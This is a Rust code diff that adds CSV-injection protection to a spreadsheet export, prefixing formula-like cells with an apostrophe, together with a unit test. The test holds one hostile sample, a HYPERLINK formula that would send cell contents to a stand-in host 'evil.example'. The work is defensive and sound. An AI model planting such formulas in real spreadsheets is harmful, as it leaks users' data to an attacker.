@@ -1,5 +1,11 @@
 //! CSV for spreadsheets: UTF-8 with a byte-order mark (so Excel reads Arabic), RFC 4180
 //! quoting and CRLF line ends, one row per passage.
+//!
+//! A cell a spreadsheet would evaluate as a formula (starting with `=`, `+`, `-`, `@`, a tab or a
+//! carriage return) is written with a leading `'`, as OWASP recommends against CSV injection: a
+//! brief's title taken from a hostile document must not become a live formula.
+
+use std::borrow::Cow;
 
 use super::{Excerpt, links_text};
 
@@ -28,21 +34,52 @@ pub(super) fn render(rows: &[Excerpt<'_>]) -> Vec<u8> {
         let _ = writer.write_record(HEADER);
         for row in rows {
             let p = row.passage;
-            let _ = writer.write_record([
-                row.brief_title.as_str(),
-                row.brief_date.as_str(),
-                p.anchor.quote.as_str(),
-                row.tags.join("; ").as_str(),
-                links_text(&row.determinants).as_str(),
-                links_text(&row.scenarios).as_str(),
-                p.memo.as_str(),
-                p.anchor.start.to_string().as_str(),
-                p.anchor.end.to_string().as_str(),
-                p.id.to_string().as_str(),
-                p.created.to_rfc3339().as_str(),
-            ]);
+            let _ = writer.write_record(
+                [
+                    row.brief_title.as_str(),
+                    row.brief_date.as_str(),
+                    p.anchor.quote.as_str(),
+                    row.tags.join("; ").as_str(),
+                    links_text(&row.determinants).as_str(),
+                    links_text(&row.scenarios).as_str(),
+                    p.memo.as_str(),
+                    p.anchor.start.to_string().as_str(),
+                    p.anchor.end.to_string().as_str(),
+                    p.id.to_string().as_str(),
+                    p.created.to_rfc3339().as_str(),
+                ]
+                .map(neutralise)
+                .iter()
+                .map(|cell| cell.as_bytes()),
+            );
         }
         let _ = writer.flush();
     }
     out
+}
+
+/// The cell as a spreadsheet shows it without evaluating it: a leading `'` before a formula.
+fn neutralise(cell: &str) -> Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn cells_a_spreadsheet_would_evaluate_get_a_leading_quote() {
+        let hostile = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Open source")"#;
+        assert_eq!(neutralise(hostile), format!("'{hostile}"));
+        for cell in ["+1", "-2", "@SUM(A1)", "\tx", "\rx"] {
+            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
+        }
+        for cell in ["plain", "قال =1", "", "'already", "1-2"] {
+            assert_eq!(neutralise(cell), cell, "{cell:?}");
+        }
+    }
 }
